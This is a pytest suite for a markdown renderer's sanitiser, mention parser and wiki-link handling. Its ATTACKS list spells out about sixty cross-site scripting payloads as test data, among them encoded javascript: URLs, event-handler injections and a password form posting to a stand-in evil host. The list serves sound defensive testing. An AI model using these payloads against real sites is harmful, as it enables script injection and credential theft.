"""Markdown is safe for everybody, and names whom it names."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dayline.kernel.text.markdown import ATTRIBUTES, TAGS, excerpt, parse, render, sanitised

REL = 'rel="noopener noreferrer nofollow"'

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<div style='background:url(javascript:alert(1))'>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<b onmouseover=alert(1)>x</b>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\uff4aavascript:alert(1))",
    "[x](java\u017fcript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/account)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![x](https://evil.example/track.png)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    '[x](https://a.example "title\\" onclick=\\"alert(1)")',
    '[x](https://a.example/"onclick="alert(1))',
    "[x](https://a.example '><script>alert(1)</script>')",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]


class Tags(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def assert_safe(html: str) -> None:
    for tag, attributes in Tags(html).seen:
        assert tag in TAGS
        assert set(attributes) - {"rel"} <= ATTRIBUTES.get(tag, set())
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"] or "", re.IGNORECASE)
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
    assert sanitised(html) == html


@pytest.mark.parametrize("body", ATTACKS)
def test_no_text_becomes_code(body: str) -> None:
    assert_safe(render(body))
    assert_safe(render(f"> - {body}\n\n**{body}**"))
    assert_safe(sanitised(body))


@settings(max_examples=300)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, *"<>&\"'`*_~[]()!|\\#-+ \n\t:@/", "a", "é", "https://a.example"])
        | st.text(max_size=8)
    ).map("".join)
)
def test_any_text_is_rendered_safely_and_sanitising_again_changes_nothing(body: str) -> None:
    assert_safe(render(body))


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("Hello **world**", "<p>Hello <strong>world</strong></p>"),
        ("~~old~~", "<p><s>old</s></p>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("[x](https://a.example)", f'<p><a href="https://a.example" {REL}>x</a></p>'),
        ("<me@a.example>", f'<p><a href="mailto:me@a.example" {REL}>me@a.example</a></p>'),
        (
            "![cat](https://a.example/c.png)",
            f'<p><a href="https://a.example/c.png" {REL}>cat</a></p>',
        ),
        (
            "[![in](https://a.example/c.png)](https://b.example)",
            f'<p><a href="https://b.example" {REL}>in</a></p>',
        ),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>'),
        ("```py\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
        ("<b>bold</b>", "<p>&lt;b&gt;bold&lt;/b&gt;</p>"),
        ("[x](javascript:x)", "<p>[x](javascript:x)</p>"),
        ("[x](/account)", "<p>[x](/account)</p>"),
        ("Ask @sam", "<p>Ask @sam</p>"),
        ("", ""),
    ],
)
def test_markdown_becomes_html(body: str, html: str) -> None:
    assert render(body) == html


def test_a_table_is_a_table() -> None:
    assert "<td>1</td>" in render("| a | b |\n|:--|--:|\n| 1 | 2 |")


def test_nesting_is_bounded() -> None:
    html = render("> " * 500 + "deep")
    assert html.count("<blockquote>") <= 20


@pytest.mark.parametrize(
    ("body", "named"),
    [
        ("@sam and @Olena", {"sam", "olena"}),
        ("@sam. @mira- (@ole) @ann…", {"sam", "mira", "ole", "ann"}),
        ("@sam-lee @j.doe", {"sam-lee", "j.doe"}),
        ("@sam_ @sam_lee", {"sam", "sam_lee"}),
        ("**@sam** and ~~@ole~~", {"sam", "ole"}),
        ("> - @sam\n\n| @ole |\n|---|\n| @ann |", {"sam", "ole", "ann"}),
        ("`@sam`", set()),
        ("```\n@sam\n```\n\n    @ole", set()),
        ("[@sam](https://a.example)", set()),
        ("![@sam](https://a.example/x.png)", set()),
        ("<https://a.example/@sam> https://a.example/@ole", set()),
        ("me@sam.example <you@ole.example>", set()),
        ("@@sam @ sam @", set()),
        ("@\u0438\u043c\u044f \u0438\u043c\u044f@sam @sam\u044f", set()),
        ("", set()),
    ],
)
def test_mentions_are_handles_in_what_people_read(body: str, named: set[str]) -> None:
    assert parse(body).mentions == named


def test_an_excerpt_is_one_plain_line_of_at_most_so_many_characters() -> None:
    html = render("# Why\n\nBecause `a < b` &amp; **so** [on](https://example.org).")
    assert excerpt(html, 100) == "Why Because a < b & so on."
    assert excerpt(html, 13) == "Why Because…"


def test_two_brackets_link_to_what_has_that_title() -> None:
    link = f'<a href="reference:How%20VAT%20works" {REL}>How VAT works</a>'
    assert render("See [[How  VAT works]].") == f"<p>See {link}.</p>"
    assert excerpt(render("See [[How VAT works]]."), 50) == "See How VAT works."


@pytest.mark.parametrize(
    ("body", "titles"),
    [
        ("[[VAT]] and [[Як працює ПДВ]]", {"VAT", "Як працює ПДВ"}),
        ("`[[VAT]]`", set()),
        ("[[ ]] [[]] [[a\nb]] [[a]b]]", set()),
        ("[VAT](reference:VAT) <reference:VAT>", set()),
        ('[[x"><script>]]', {'x"><script>'}),
    ],
)
def test_titles_are_named_in_text_and_not_in_code(body: str, titles: set[str]) -> None:
    assert parse(body).references == titles
    assert render(body).count("<a ") == len(titles)
